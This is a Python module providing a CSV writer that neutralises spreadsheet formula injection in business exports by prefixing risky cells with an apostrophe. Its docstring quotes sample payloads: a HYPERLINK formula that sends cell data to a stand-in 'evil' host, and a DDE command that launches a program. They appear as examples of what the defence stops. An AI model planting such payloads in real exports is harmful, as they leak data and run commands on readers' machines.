"""CSV exports: the one writer every export goes through, so that no cell runs as a formula.

A spreadsheet opening a CSV treats a cell that starts with ``=``, ``+``, ``-`` or ``@``
(or a tab or line break, or their full-width forms) as a formula: a customer named
``=HYPERLINK("http://evil/?"&A1)`` or ``+cmd|' /C calc'!A0`` would run in the reader's
spreadsheet. ``neutralise`` prefixes such a cell with ``'`` (OWASP's advice), which
spreadsheets show as text. A cell made only of digits, spaces and number punctuation
(``-12.50``, ``+44 20 7946 0000``) is left as it is: it cannot call a function or reach
another cell, and amounts stay numbers.

The aging report, the agency placement file and the web's invoice download use it; a
new export should too (``writer(out)`` instead of ``csv.writer(out)``).
"""

import csv
import re
from collections.abc import Iterable
from typing import Protocol

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_INERT = re.compile(r"[+\-]?[0-9 .,()/\-]*")


class TextOut(Protocol):
    """Where the CSV goes: a text file, ``sys.stdout`` or a ``StringIO``."""

    def write(self, text: str, /) -> object: ...


def neutralise(value: object) -> str:
    """The text of a cell, prefixed with ``'`` when a spreadsheet would run it.

    >>> neutralise("=HYPERLINK(1)"), neutralise("@SUM(A1)"), neutralise(" +cmd|x!A0")
    ("'=HYPERLINK(1)", "'@SUM(A1)", "' +cmd|x!A0")
    >>> neutralise("-12.50"), neutralise("+44 20 7946 0000"), neutralise(-3), neutralise(None)
    ('-12.50', '+44 20 7946 0000', '-3', '')
    >>> neutralise("ACME Ltd"), neutralise("-1+A1")
    ('ACME Ltd', "'-1+A1")
    """
    text = "" if value is None else str(value)
    start = text[:1] if text[:1] in ("\t", "\r", "\n") else text.lstrip(" ")[:1]
    if start in FORMULA_STARTS and not _INERT.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """A ``csv.writer`` that neutralises every cell it writes."""

    def __init__(self, out: TextOut, *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row."""
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write every row of ``rows``."""
        for row in rows:
            self.writerow(row)


def writer(out: TextOut, *, lineterminator: str = "\r\n") -> SafeWriter:
    """The CSV writer of every export (the standard dialect, cells neutralised)."""
    return SafeWriter(out, lineterminator=lineterminator)
